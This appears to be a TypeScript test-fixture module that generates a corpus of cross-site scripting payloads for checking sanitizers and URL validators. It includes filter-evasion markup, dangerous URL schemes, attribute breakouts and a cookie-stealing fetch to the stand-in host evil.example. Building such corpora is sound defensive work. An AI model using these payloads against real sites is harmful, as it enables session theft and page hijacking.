/** What a script calls that got through; a browser run would hook it. */
const ACTS = ['alert(1)', `fetch('//evil.example/'+document.cookie)`, `top.location='//evil.example'`];
const TAGS = ['img', 'svg', 'body', 'iframe', 'video', 'audio', 'details', 'input', 'marquee', 'object', 'math', 'a', 'p', 'x-y', 'table'];
const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'OnErRoR'];
/** How a tag is written so that a filter of words does not see it. `T` tag, `H` handler, `A` act. */
const SHAPES = [
  '<T H=A>',
  '<T src=x H="A">',
  '<T/src=x/H=A//',
  `<T\tsrc='x'\nH\r=\f'A'>`,
  '"><T H=A>',
  `'><T H=A autofocus tabindex=1>`,
  '<<T H=A>>',
  '<T H=A <!--',
  '--><T H=A>',
  ']]><T H=A>',
  '</textarea><T H=A>',
  '&lt;T H=A&gt;',
];
const SCRIPTS = [
  '<script>A</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>A</script >',
  '<scr<script>ipt>A</scr</script>ipt>',
  '</script><script>A</script>',
  '</title><script>A</script>',
  '</style><script>A</script>',
  '<script\u0000>A</script>',
  '<ſcript>A</ſcript>',
  '＜script＞A＜/script＞',
  '\\u003cscript\\u003eA\\u003c/script\\u003e',
  '+ADw-script+AD4-A+ADw-/script+AD4-',
  '%3Cscript%3EA%3C/script%3E',
  '<svg><script>A</script></svg>',
  '<svg><style><img src=x onerror=A></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=A>',
  '<noscript><p title="</noscript><img src=x onerror=A>">',
  '<form action="javascript:A"><button>x</button></form>',
  '<button formaction="javascript:A">x</button>',
  '<meta http-equiv=refresh content="0;url=javascript:A">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<base href="//evil.example/">',
  '<style>@import "//evil.example/x.css";*{background:url(javascript:A)}</style>',
  '<p style="background:url(javascript:A);position:fixed;inset:0">x</p>',
  '<iframe srcdoc="<script>A</script>"></iframe>',
  '<object data="data:text/html,<script>A</script>"></object>',
  '<embed src="javascript:A">',
  '<svg><a xlink:href="javascript:A"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=A>#x"/></svg>',
  '<svg><animate attributeName=href values=javascript:A />',
  '<template><script>A</script></template>',
  '<xmp><script>A</script></xmp>',
  '<!--[if IE]><script>A</script><![endif]-->',
  '<?xml-stylesheet href="javascript:A"?>',
  '<![CDATA[<script>A</script>]]>',
  '{{constructor.constructor("A")()}}',
  '${A}',
  '\u202e<script>A</script>\u202c',
  '\ud800<script>A</script>',
  '\u2028<script>A</script>\u2029',
  '\ufeff<script>A</script>',
];
const SCHEMES = [
  'javascript',
  'JaVaScRiPt',
  'vbscript',
  'livescript',
  'data',
  'blob',
  'file',
  'view-source',
  'filesystem',
  'jar',
  'about',
  'intent',
  'weixin',
  'ms-appx',
];
/** How an address is written so that a check of its beginning does not see it. `S` scheme, `A` act. */
const ADDRESSES = [
  'S:A',
  ' S:A',
  '\tS:A',
  '\u0001S:A',
  '\u00a0S:A',
  '\ufeffS:A',
  '\u200bS:A',
  'S\n:A',
  'S\u0000:A',
  'S&colon;A',
  'S&#58;A',
  '&#x6A;S:A',
  '%6aS:A',
  'S%3AA',
  'S:%0AA',
  'S://%0aA',
  'S://example.org/%0aA//',
  'https://example.org@S:A',
  'https:S:A',
  '//S:A',
  '/\\S:A',
  'https://example.org/\nS:A',
  'feed:S:A',
  'S:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'S:text/html,<script>A</script>',
];
/** Good schemes that try to leave their attribute. */
const LEAVING = [
  'https://example.org/" onmouseover="A',
  `https://example.org/' onmouseover='A`,
  'https://example.org/"><script>A</script>',
  'https://example.org/`onclick=A`',
  'mailto:a@b.mo" onclick="A',
  'mailto:a@b.mo?body=<script>A</script>',
  'mailto:"><script>A</script>@b.mo',
  'tel:+853"onclick=A',
  'https://user:A@example.org',
  'https://[::1]/"><script>A</script>',
  'http://example.org:99999/A',
  'https://еxample.org/A',
];

/** @returns the attack texts, each once, always the same: markup, addresses and breaks out of quotes (D1) */
export function hostileStrings(): string[] {
  const out = new Set<string>();
  const act = (index: number): string => ACTS[index % ACTS.length] ?? '';
  let turn = 0;
  for (const tag of TAGS) {
    for (const shape of SHAPES) {
      for (const handler of HANDLERS.filter((_one, i) => (i + turn) % 3 === 0)) {
        out.add(
          shape
            .replace('T', tag)
            .replace('H', handler)
            .replace('A', act((turn += 1))),
        );
      }
    }
  }
  for (const shape of [...SCRIPTS, ...LEAVING]) for (const one of ACTS) out.add(shape.replaceAll('A', () => one));
  for (const scheme of SCHEMES) {
    for (const shape of ADDRESSES) out.add(shape.replace('S', scheme).replaceAll('A', () => act((turn += 1))));
  }
  return [...out];
}
